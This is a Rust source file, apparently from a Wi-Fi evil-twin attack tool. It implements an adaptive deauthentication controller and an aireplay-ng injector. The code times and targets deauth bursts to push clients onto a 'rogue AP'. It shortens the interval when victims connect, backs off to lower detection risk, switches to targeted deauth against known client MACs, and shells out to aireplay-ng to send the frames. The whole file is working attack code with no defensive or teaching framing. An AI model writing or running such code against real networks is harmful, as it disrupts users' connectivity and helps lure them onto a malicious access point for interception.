//! Adaptive deauthentication control.
//!
//! `AdaptiveDeauthManager` decides *when*, *how hard*, and *at whom* to send
//! deauth bursts, tightening the interval while clients are biting and
//! backing off when nothing connects to keep the footprint low. It performs
//! no I/O and has no internal synchronization: only the orchestrator's
//! control thread may drive it.

use std::time::{Duration, Instant};

use crate::config::DeauthSettings;
use crate::error::Result;
use crate::process::ChildProcess;

/// Adaptive deauth timing and targeting decisions.
#[derive(Debug)]
pub struct AdaptiveDeauthManager {
    base_interval: Duration,
    min_interval: Duration,
    max_interval: Duration,
    current_interval: Duration,

    total_deauths_sent: u64,
    clients_connected: u32,
    consecutive_no_connects: u32,

    last_deauth_time: Instant,
    attack_start_time: Instant,
    is_paused: bool,
}

/// Point-in-time view of the manager's counters.
#[derive(Debug, Clone)]
pub struct DeauthStatistics {
    pub total_deauths_sent: u64,
    pub clients_connected: u32,
    pub current_interval: Duration,
    pub is_paused: bool,
    pub consecutive_no_connects: u32,
    pub elapsed: Duration,
    pub deauths_per_minute: f64,
}

impl AdaptiveDeauthManager {
    pub fn new(settings: &DeauthSettings) -> Self {
        let now = Instant::now();
        let base = settings.base_interval();
        Self {
            base_interval: base,
            min_interval: settings.min_interval(),
            max_interval: settings.max_interval(),
            current_interval: base,
            total_deauths_sent: 0,
            clients_connected: 0,
            consecutive_no_connects: 0,
            last_deauth_time: now,
            attack_start_time: now,
            is_paused: false,
        }
    }

    /// True when not paused and the adaptive interval has elapsed since the
    /// last burst.
    pub fn should_send_deauth(&self) -> bool {
        if self.is_paused {
            return false;
        }
        self.last_deauth_time.elapsed() >= self.current_interval
    }

    /// Record that a burst went out; restarts the interval clock.
    pub fn record_deauth_sent(&mut self) {
        self.last_deauth_time = Instant::now();
        self.total_deauths_sent += 1;
        tracing::debug!(
            total = self.total_deauths_sent,
            interval_secs = self.current_interval.as_secs_f64(),
            "deauth burst recorded"
        );
    }

    /// A client connected to the rogue AP: clients are vulnerable right now,
    /// so shrink the interval by 20% (clamped) and reset the idle counter.
    pub fn record_client_connect(&mut self) {
        self.clients_connected += 1;
        self.consecutive_no_connects = 0;
        self.current_interval = clamp_interval(
            self.current_interval.mul_f64(0.8),
            self.min_interval,
            self.max_interval,
        );
        tracing::info!(
            total = self.clients_connected,
            interval_secs = self.current_interval.as_secs_f64(),
            "client connected, reducing deauth interval"
        );
    }

    /// Nothing connected since the last poll; after three idle polls, grow
    /// the interval by 25% (clamped) to reduce detection risk.
    pub fn record_no_activity(&mut self) {
        self.consecutive_no_connects += 1;
        if self.consecutive_no_connects >= 3 {
            self.current_interval = clamp_interval(
                self.current_interval.mul_f64(1.25),
                self.min_interval,
                self.max_interval,
            );
            tracing::debug!(
                interval_secs = self.current_interval.as_secs_f64(),
                "no activity, increasing deauth interval"
            );
        }
    }

    pub fn pause(&mut self) {
        if !self.is_paused {
            self.is_paused = true;
            tracing::info!("deauth paused");
        }
    }

    pub fn resume(&mut self) {
        if self.is_paused {
            self.is_paused = false;
            tracing::info!("deauth resumed");
        }
    }

    pub fn is_paused(&self) -> bool {
        self.is_paused
    }

    pub fn reset_to_base(&mut self) {
        self.current_interval = self.base_interval;
    }

    pub fn current_interval(&self) -> Duration {
        self.current_interval
    }

    pub fn total_sent(&self) -> u64 {
        self.total_deauths_sent
    }

    /// Targeted deauth beats broadcast once we know client MACs: either
    /// broadcast has been tried long enough without a bite, or clients have
    /// already shown they respond.
    pub fn should_use_targeted_deauth(&self, known_clients: &[String]) -> bool {
        if known_clients.is_empty() {
            return false;
        }
        (self.total_deauths_sent > 10 && self.clients_connected == 0) || self.clients_connected > 0
    }

    /// Packets per burst: aggressive with no clients, conservative once
    /// several are on the rogue AP.
    pub fn recommended_deauth_count(&self) -> u32 {
        if self.clients_connected == 0 {
            15
        } else if self.clients_connected < 3 {
            10
        } else {
            5
        }
    }

    pub fn statistics(&self) -> DeauthStatistics {
        let elapsed = self.attack_start_time.elapsed();
        let per_minute = if elapsed.as_secs_f64() > 0.0 {
            self.total_deauths_sent as f64 / elapsed.as_secs_f64() * 60.0
        } else {
            0.0
        };
        DeauthStatistics {
            total_deauths_sent: self.total_deauths_sent,
            clients_connected: self.clients_connected,
            current_interval: self.current_interval,
            is_paused: self.is_paused,
            consecutive_no_connects: self.consecutive_no_connects,
            elapsed,
            deauths_per_minute: per_minute,
        }
    }
}

fn clamp_interval(value: Duration, min: Duration, max: Duration) -> Duration {
    value.clamp(min, max)
}

/// Outbound call on the disruptive-signal collaborator.
pub trait SignalInjector: Send {
    /// Send `count` deauth frames against `bssid`, directed at `client_mac`
    /// (or the broadcast address), from `interface`.
    fn send(&mut self, bssid: &str, essid: &str, client_mac: &str, count: u32, interface: &str)
        -> Result<()>;
}

/// `aireplay-ng` backed injector.
pub struct AireplayInjector;

impl SignalInjector for AireplayInjector {
    fn send(
        &mut self,
        bssid: &str,
        essid: &str,
        client_mac: &str,
        count: u32,
        interface: &str,
    ) -> Result<()> {
        let count_str = count.to_string();
        let mut args = vec![
            "--deauth",
            count_str.as_str(),
            "-a",
            bssid,
            "-c",
            client_mac,
            "--ignore-negative-one",
            "-D",
        ];
        if !essid.is_empty() {
            args.push("-e");
            args.push(essid);
        }
        args.push(interface);

        let mut proc = ChildProcess::spawn("aireplay-ng", "aireplay-ng", &args)?;

        // aireplay-ng exits on its own after the burst; give it a moment,
        // then interrupt rather than letting it linger.
        std::thread::sleep(Duration::from_millis(100));
        if proc.poll().is_none() {
            proc.interrupt().ok();
        }

        tracing::debug!(count, client = client_mac, interface, "deauth burst sent");
        Ok(())
    }
}
